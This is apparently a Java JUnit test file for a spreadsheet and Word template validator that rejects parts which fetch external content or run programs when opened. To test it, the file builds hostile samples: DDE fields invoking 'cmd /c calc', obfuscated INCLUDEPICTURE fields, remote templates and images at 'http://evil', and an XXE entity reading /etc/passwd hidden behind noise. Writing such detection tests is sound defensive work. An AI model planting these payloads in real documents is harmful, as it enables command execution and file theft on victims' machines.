package cn.juesuan.ooxml;

import static org.assertj.core.api.Assertions.assertThat;

import cn.juesuan.docx.DocumentTemplate;
import cn.juesuan.docx.Word;
import cn.juesuan.template.TestDictionary;
import cn.juesuan.workbook.Filled;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What would fetch or start something when a finished file is opened is refused, in every part. */
class OutsideContentTest {

  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

  @TempDir private Path folder;

  private record Case(String name, UnaryOperator<byte[]> harm, String fault) {
    @Override
    public String toString() {
      return name;
    }
  }

  /** A link of a part that may have none yet. */
  private static byte[] link(byte[] file, String rels, String type, String target, boolean outer) {
    String link =
        "<Relationship Id=\"x9\" Type=\"%s\" Target=\"%s\"%s/>"
            .formatted(
                type.contains(":") ? type : OFFICE + type,
                target,
                outer ? " TargetMode=\"External\"" : "");
    return Filled.edited(file, rels, "</Relationships>", link + "</Relationships>");
  }

  private static Case workbookLink(String type, String target, boolean outer, String fault) {
    return new Case(type, f -> link(f, "xl/_rels/workbook.xml.rels", type, target, outer), fault);
  }

  private static Stream<Case> workbooks() {
    return Stream.of(
        workbookLink("connections", "connections.xml", false, "含有数据连接（/xl/workbook.xml）"),
        workbookLink("attachedToolbars", "a.bin", false, "含有自定义工具栏（/xl/workbook.xml）"),
        workbookLink(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "styles.xml",
            false,
            "含有宏（/xl/workbook.xml）"),
        workbookLink("xmlMaps", "xmlMaps.xml", false, "含有XML 映射（/xl/workbook.xml）"),
        workbookLink("image", "http://evil/x.png", true, "打开时会读取外部内容 http://evil/x.png"),
        workbookLink("theme", "\\\\evil\\x", true, "打开时会读取外部内容 \\\\evil\\x"),
        new Case(
            "query table",
            f -> link(f, "xl/_rels/workbook.xml.rels", "queryTable", "q.xml", false),
            "含有查询表"),
        new Case(
            "whatever is an OLE file",
            f ->
                Filled.with(
                    Filled.edited(
                        f,
                        "[Content_Types].xml",
                        "<Override",
                        "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>"
                            + "<Override"),
                    "xl/printerSettings/printerSettings1.bin",
                    new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 1, 2, 3}),
            "含有嵌入对象或宏（/xl/printerSettings/printerSettings1.bin）"),
        new Case(
            "DDE link",
            f ->
                Filled.with(
                    Filled.edited(
                        f,
                        "[Content_Types].xml",
                        "</Types>",
                        "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application"
                            + "/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/></Types>"),
                    "xl/externalLinks/externalLink1.xml",
                    ("<externalLink xmlns=\""
                            + Prefixes.SPREADSHEET
                            + "\">"
                            + "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")
                        .getBytes(StandardCharsets.UTF_8)),
            "含有DDE 链接（/xl/externalLinks/externalLink1.xml）"));
  }

  @ParameterizedTest
  @MethodSource("workbooks")
  void workbooksAreRefused(Case given) {
    byte[] good = Filled.template(book -> Filled.sheet(book, "03", "合计 | ${单位.单位名称}"));
    assertThat(Filled.faults(folder, given.harm().apply(good)))
        .singleElement()
        .asString()
        .startsWith("OUTSIDE_CONTENT 决算.xlsx：" + given.fault());
  }

  private static Case inDocument(String name, String xml, String fault) {
    return new Case(
        name,
        f -> Filled.edited(f, "word/document.xml", "<w:body>", "<w:body>" + xml),
        fault + "（/word/document.xml）");
  }

  private static Case field(String name, String xml, String fault) {
    return inDocument(name, "<w:p>" + xml + "</w:p>", "含有 " + fault + " 域，它会读取外部内容或运行程序");
  }

  private static String mark(String type) {
    return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>";
  }

  private static String instruction(String text) {
    return "<w:r><w:instrText>" + text + "</w:instrText></w:r>";
  }

  private static Stream<Case> documents() {
    String begin = mark("begin");
    String end = mark("end");
    String nested = begin + instruction("QUOTE 68 68") + end;
    return Stream.of(
        field("simple", "<w:fldSimple w:instr=\" dde cmd x\"/>", "DDE"),
        field(
            "complex", begin + instruction("DDEAUTO c:\\\\a") + mark("separate") + end, "DDEAUTO"),
        field(
            "in pieces",
            begin
                + instruction(" INCL")
                + instruction("UDEPIC")
                + instruction("TURE \"http://x\"")
                + end,
            "INCLUDEPICTURE"),
        field("without end", begin + instruction("INCLUDETEXT \"x\""), "INCLUDETEXT"),
        field(
            "within another",
            begin
                + instruction("IF 1=1 \"")
                + begin
                + instruction("LINK Excel.Sheet x")
                + end
                + end,
            "LINK"),
        inDocument("made", "<w:p>" + begin + nested + end + "</w:p>", "含有域，它的名称由另一个域算出"),
        inDocument("altChunk", "<w:altChunk/>", "含有插入的外部文件（altChunk）"),
        inDocument("subDoc", "<w:p><w:subDoc/></w:p>", "含有子文档"),
        inDocument(
            "object",
            "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\"/>"
                + "</w:object></w:r></w:p>",
            "含有嵌入对象"),
        inDocument(
            "picture",
            "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\">"
                + "<v:imagedata src=\"http://evil/x.png\"/></v:shape></w:pict></w:r></w:p>",
            "含有链接的外部图片"),
        new Case(
            "in the footer",
            f ->
                Filled.edited(
                    f, "word/footer.xml", "<w:p/>", "<w:p><w:fldSimple w:instr=\"DDE x\"/></w:p>"),
            "含有 DDE 域，它会读取外部内容或运行程序（/word/footer.xml）"),
        new Case(
            "template",
            f ->
                link(
                    f,
                    "word/_rels/document.xml.rels",
                    "attachedTemplate",
                    "http://evil/x.dotm",
                    true),
            "含有附加模板（http://evil/x.dotm）"),
        new Case(
            "linked picture",
            f -> link(f, "word/_rels/document.xml.rels", "image", "http://evil/x.png", true),
            "打开时会读取外部内容 http://evil/x.png（/word/document.xml）"));
  }

  private List<String> faults(byte[] document) {
    try {
      Path file = Files.write(folder.resolve("说明模板.docx"), document);
      return DocumentTemplate.open(file, TestDictionary.read()).problems().stream()
          .map(p -> p.kind() + " " + p.place().text() + "：" + p.detail())
          .toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  @ParameterizedTest
  @MethodSource("documents")
  void documentsAreRefused(Case given) {
    assertThat(faults(given.harm().apply(Word.template("一"))))
        .containsExactly("OUTSIDE_CONTENT 说明模板.docx：" + given.fault());
  }

  @Test
  void ordinaryFieldsAndLinksAreNoHarm() {
    byte[] document =
        Filled.edited(
            Word.template("一"),
            "word/document.xml",
            "<w:body>",
            "<w:body><w:p><w:fldSimple w:instr=\" PAGE \"/>"
                + mark("begin")
                + instruction(" HYPERLINK \"http://x.gov.cn\" ")
                + mark("separate")
                + "<w:r><w:t>LINK</w:t></w:r>"
                + mark("end")
                + "</w:p>");
    assertThat(
            faults(link(document, "word/_rels/document.xml.rels", "hyperlink", "http://x y", true)))
        .isEmpty();
  }

  /** A part that this program copies unread, in an encoding and behind a prolog of any length. */
  private static byte[] properties(String prolog, Charset encoding, byte... mark) {
    byte[] text = (prolog + "<p xmlns=\"urn:p\">x</p>").getBytes(encoding);
    byte[] part = new byte[mark.length + text.length];
    System.arraycopy(mark, 0, part, 0, mark.length);
    System.arraycopy(text, 0, part, mark.length, text.length);
    byte[] good = Filled.template(book -> Filled.sheet(book, "03", "合计 | ${单位.单位名称}"));
    return Filled.with(good, "docProps/app.xml", part);
  }

  private static final String TYPE = "<!DOCTYPE p [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";

  @Test
  @Timeout(20)
  void documentTypesAreFoundBehindAnyPrologAndInAnyEncoding() {
    StringBuilder noise = new StringBuilder();
    for (int i = 0; noise.length() < 70_000; i++) {
      noise.append(Integer.toString(i * 2_654_435, 36).replace('-', '_'));
    }
    String comment = "<!--" + noise + "-->";
    for (byte[] file :
        List.of(
            properties(TYPE, StandardCharsets.UTF_8),
            properties(comment + TYPE, StandardCharsets.UTF_8),
            properties("<?a " + noise + "?>" + TYPE, StandardCharsets.UTF_8),
            properties(comment + TYPE, StandardCharsets.UTF_16BE, (byte) 0xfe, (byte) 0xff),
            properties(comment + TYPE, StandardCharsets.UTF_16LE, (byte) 0xff, (byte) 0xfe))) {
      assertThat(Filled.faults(folder, file))
          .containsExactly("TEMPLATE_UNREADABLE 决算.xlsx：含有 DOCTYPE 声明：/docProps/app.xml");
    }
  }

  @Test
  void rareEncodingsAreRefused() {
    Charset ebcdic = Charset.forName("IBM037");
    byte[] file = properties("<?xml version=\"1.0\" encoding=\"IBM037\"?>" + TYPE, ebcdic);
    assertThat(Filled.faults(folder, file))
        .singleElement()
        .asString()
        .startsWith("TEMPLATE_UNREAD");
    byte[] latin =
        properties("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>", StandardCharsets.ISO_8859_1);
    assertThat(Filled.faults(folder, latin))
        .containsExactly(
            "TEMPLATE_UNREADABLE 决算.xlsx：XML 的编码 ISO-8859-1 不是 UTF-8 或 UTF-16：/docProps/app.xml");
  }

  /** Fonts are hidden in noise, which may begin like anything. */
  @Test
  void whatOnlyBeginsLikeXmlIsNoFault() {
    byte[] document =
        Filled.edited(
            Word.template("一"),
            "[Content_Types].xml",
            "</Types>",
            "<Default Extension=\"odttf\" ContentType=\"application/vnd.openxmlformats-officedocument"
                + ".obfuscatedFont\"/></Types>");
    assertThat(faults(Filled.with(document, "word/fonts/font1.odttf", new byte[] {'<', 1, 2, 3})))
        .isEmpty();
  }
}
